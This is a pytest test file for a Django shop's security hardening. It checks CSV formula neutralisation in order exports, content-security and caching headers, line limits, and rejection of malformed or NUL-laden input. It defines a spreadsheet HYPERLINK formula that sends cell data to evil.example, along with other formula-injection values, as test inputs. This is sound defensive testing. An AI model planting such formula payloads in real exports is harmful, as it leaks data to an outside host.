"""Security hardening (SPEC §16, issue 9): safe CSV cells, CSP and no-store headers, bounded orders,
the checkout page, the import parser, the admin export's bad filters, `check --deploy`."""

from __future__ import annotations

import csv
import io
import os
import shlex
import subprocess
import sys
from pathlib import Path

import pytest

from carts.models import Cart
from config.fields import MAX_ORDER_LINES
from sales.models import Order, OrderItem
from tests.carts.helpers import ready_cart
from tests.catalog.factories import ProductFactory
from tests.sales.helpers import placed_order
from tests.sales.lifecycle_support import assert_error, nothing_written, product
from tests.sales.test_import_api import URL as IMPORT_URL

pytestmark = pytest.mark.django_db
ROOT = Path(__file__).resolve().parent.parent
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'


def document(**fields) -> dict:
    """A small import document (SPEC §7.2): one custom line of 10.00, nothing shipped."""
    address = {"first_name": "Ann", "last_name": "Lee", "line_1": "1 Main St", "city": "Leeds", "postcode": "LS1",
               "country": "GB"}
    return {"email": "ann@example.com", "billing_address": address,
            "items": [{"sku": "CUSTOM-1", "name": "Custom", "shippable": False, "quantity": 1,
                       "price": {"amount": 1000, "tax": 0}}], **fields}


def _rows(content: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(content.decode())))


def _formula_order(api) -> Order:
    """An imported order whose every free-text field a client controls starts like a formula."""
    doc = document(reference="@SUM(1+1)", email="+attacker@example.com", channel="-cmd",
                   payments=[{"driver": FORMULA, "amount": 1000}])
    doc["billing_address"]["first_name"] = "=1+1"
    doc["billing_address"]["last_name"] = "\tTab"
    response = api.post(IMPORT_URL, doc, format="json")
    assert response.status_code == 201, response.content[:500]
    return Order.objects.get(id=response.json()["order"]["id"])


def test_every_text_cell_of_both_exports_is_neutralized(api, admin_client):
    order = _formula_order(api)
    api_rows = _rows(b"".join(api.get("/api/admin/orders/export.csv").streaming_content))
    admin_rows = _rows(b"".join(admin_client.get("/admin/sales/order/export.csv").streaming_content))
    for rows in (api_rows, admin_rows):
        (row,) = [r for r in rows if r["number"] == order.number]
        for column, value in row.items():
            assert not (value and value[0] in "=+-@\t\r"), (column, value)
        assert row["reference"] == "'@SUM(1+1)" and row["channel"] == "'-cmd"
        assert row["customer_email"] == "'+attacker@example.com"
        assert row["payment_method"] == ""  # an unknown driver is not a payment method code


def test_an_unknown_payment_driver_stays_on_its_payment_only(api):
    order = _formula_order(api)
    detail = api.get(f"/api/admin/orders/{order.id}").json()
    assert detail["payment_method"] is None  # not one of ours: no order-level method
    assert detail["payments"][0]["method"] == FORMULA  # kept as given (SPEC §7.2)
    known = document(reference="KNOWN-1", payments=[{"driver": "moneytransfer", "amount": 1000}])
    order_id = api.post(IMPORT_URL, known, format="json").json()["order"]["id"]
    assert Order.objects.get(id=order_id).payment_method_code == "moneytransfer"


def test_admin_export_answers_a_bad_filter_with_a_message_not_a_500(admin_client):
    placed_order()
    for query in ("status__exact=x", "bogus__in=1", "created_at__gte=not-a-date"):
        response = admin_client.get(f"/admin/sales/order/export.csv?{query}", follow=True)
        assert response.status_code == 200, query
        assert b"filter is not valid" in response.content, query


# ---------------------------------------------------------------- headers

def test_pages_send_a_content_security_policy(admin_client, api, client):
    order = placed_order(payment="paypal_standard")
    pages = [admin_client.get("/admin/"), admin_client.get(f"/admin/sales/order/{order.id}/change/"),
             client.get(f"/checkout/{order.checkout_token}/"), client.get("/api/docs/")]
    for page in pages:
        assert page.status_code == 200
        policy = page["Content-Security-Policy"]
        assert "default-src 'self'" in policy and "frame-ancestors 'none'" in policy
        script_src = next(d for d in policy.split(";") if d.strip().startswith("script-src"))
        assert "'unsafe-inline'" not in script_src
        assert b"<script>" not in page.content  # no inline script anywhere: the Swagger start-up is a file too


def test_api_answers_and_the_checkout_page_are_never_stored(api, client):
    order = placed_order(payment="paypal_standard")
    for response in (api.get("/api/admin/orders"), api.get(f"/api/admin/orders/{order.id}"),
                     api.get("/api/admin/orders/999999"), client.get(f"/checkout/{order.checkout_token}/")):
        assert "no-store" in response["Cache-Control"], response["Cache-Control"]


def test_the_checkout_page_of_a_canceled_order_shows_no_pay_button(api, client):
    order = placed_order(payment="paypal_standard")
    page = client.get(f"/checkout/{order.checkout_token}/").content.decode()
    assert "<button" in page
    assert api.post(f"/api/admin/orders/{order.id}/cancel").status_code == 200
    page = client.get(f"/checkout/{order.checkout_token}/").content.decode()
    assert "<button" not in page and "can no longer be paid" in page
    assert client.post(f"/checkout/{order.checkout_token}/").status_code == 200  # refused, shown on the page
    assert Order.objects.get(id=order.id).payment_captured is False


def test_the_import_endpoint_refuses_json_nested_too_deeply(api):
    body = '{"reference": "DEEP", "items": ' + "[" * 5000 + "]" * 5000 + "}"
    with nothing_written():
        assert_error(api.generic("POST", IMPORT_URL, body, content_type="application/json"), 400, "parse_error")


# ---------------------------------------------------------------- at most 1,000 lines

def test_direct_create_and_import_take_at_most_1000_lines(api):
    p = product(stock=10_000)
    too_many = [{"product_id": p.id, "quantity": 1}] * (MAX_ORDER_LINES + 1)
    with nothing_written():
        assert_error(api.post("/api/admin/orders", {"email": "a@example.com", "items": too_many}, format="json"),
                     400, "validation_error", field="items")
    doc = document(reference="BIG")
    doc["items"] = [{"sku": f"X{n}", "name": "x", "quantity": 1, "price": {"amount": 100, "tax": 0}}
                    for n in range(MAX_ORDER_LINES + 1)]
    with nothing_written():
        assert_error(api.post(IMPORT_URL, doc, format="json"), 400, "validation_error", field="items")


def test_a_cart_and_an_edit_stop_at_1000_lines(api, settings):
    products = ProductFactory.create_batch(3, stock=10)
    import config.fields
    import sales.services.editing
    from carts.services import carts as cart_services

    # The limit is read where it is enforced; a small one keeps the test fast and proves the same code.
    for module in (cart_services, sales.services.editing):
        module.MAX_ORDER_LINES = 2
    try:
        cart = ready_cart((products[0], 1), (products[1], 1))
        with nothing_written():
            assert_error(api.post(f"/api/admin/carts/{cart.id}/items", {"product_id": products[2].id, "quantity": 1},
                                  format="json"), 400, "validation_error", field="product_id", says="at most")
        # the same product again still adds to its line
        assert api.post(f"/api/admin/carts/{cart.id}/items", {"product_id": products[0].id, "quantity": 1},
                        format="json").status_code == 201
        order = placed_order((products[0], 1), (products[1], 1))
        with nothing_written(api, order.id):
            assert_error(api.patch(f"/api/admin/orders/{order.id}", {"items": [
                {"product_id": products[2].id, "quantity": 1}]}, format="json"), 400, "validation_error",
                field="items", says="at most")
    finally:
        for module in (cart_services, sales.services.editing):
            module.MAX_ORDER_LINES = config.fields.MAX_ORDER_LINES
    assert Cart.objects.get(id=cart.id).items.count() == 2


def test_the_admin_order_page_pages_its_lines_beyond_100(admin_client):
    order = placed_order()
    item = order.items.get()
    OrderItem.objects.bulk_create([OrderItem(order=order, sku=f"EXTRA-{n}", name=f"Extra {n}", type="virtual",
                                             is_shippable=False, is_stocked=False, qty_ordered=1, price=0)
                                   for n in range(150)])
    page = admin_client.get(f"/admin/sales/order/{order.id}/change/").content.decode()
    assert page.count('class="order-item"') == 100 and "Lines 1–100 of 151" in page
    assert f'data-item-id="{item.id}"' in page
    page2 = admin_client.get(f"/admin/sales/order/{order.id}/change/?items_page=2").content.decode()
    assert page2.count('class="order-item"') == 51 and "EXTRA-149" in page2


# ---------------------------------------------------------------- production settings

def test_check_deploy_is_clean_with_the_readme_production_settings():
    readme = (ROOT / "README.md").read_text()
    block = readme.split("## Production", 1)[1].split("```sh", 1)[1].split("```", 1)[0]
    exported = block.split("export ", 1)[1].split("\n.venv", 1)[0].replace("\\\n", " ")
    # Only what a production shell would have: the README's variables on a bare environment (the test
    # run's own variables, e.g. DJANGO_ALLOW_ASYNC_UNSAFE set by the browser tests, are not production's).
    env = {k: os.environ[k] for k in ("PATH", "HOME", "LANG") if k in os.environ}
    for assignment in shlex.split(exported):
        name, value = assignment.split("=", 1)
        env[name] = value
    assert env["HTTPS"] == "true" and env["DEBUG"] == "false"
    result = subprocess.run([sys.executable, "manage.py", "check", "--deploy", "--fail-level", "WARNING"],
                            cwd=ROOT, env=env, capture_output=True, text=True, timeout=120)
    assert result.returncode == 0, result.stdout + result.stderr
    assert "no issues" in result.stdout


def test_no_admin_list_answers_a_bad_filter_with_a_500(admin_client):
    """Every change list of the admin, each with filters that are wrong in a different way."""
    from django.contrib import admin

    placed_order()
    bad = ["status__exact=x", "created_at__gte=x", "id__in=a", "o=99", "p=x", "q=%00", "archived=maybe",
           "created_from=zz&created_to=yy", "payment_method_code__exact=%00", "e=1", "foo=bar"]
    checked = 0
    for model in admin.site._registry:
        url = f"/admin/{model._meta.app_label}/{model._meta.model_name}/"
        for query in bad:
            response = admin_client.get(f"{url}?{query}")
            assert response.status_code < 500, (url, query)
            checked += 1
    assert checked > 100


def test_nul_characters_are_refused_not_a_500(api, admin_client):
    """PostgreSQL refuses NUL in text and jsonb: every way in answers 400 before anything is read or written."""
    order = placed_order()
    for url in ("/api/admin/orders?search=%00", "/api/admin/orders?email=a%00b", "/api/admin/customers?search=%00",
                "/api/admin/invoices?order_number=%00"):
        assert_error(api.get(url), 400, "validation_error")
    assert admin_client.get("/admin/sales/order/?q=%00").status_code == 400
    assert admin_client.get("/admin/customers/customer/?q=a%00").status_code == 400
    with nothing_written():
        assert_error(api.post("/api/admin/orders", {"email": "a@example.com", "cost": "5.00",
                                                    "metadata": {"k": "a\x00b"}}, format="json"),
                     400, "validation_error", field="metadata.k")
        assert_error(api.post(f"/api/admin/orders/{order.id}/comments", {"comment": "x", "n\x00": 1}, format="json"),
                     400, "validation_error", field="n")
        assert_error(api.post("/api/admin/orders/import", document(reference="NUL", note="\x00"), format="json"),
                     400, "validation_error", field="note")
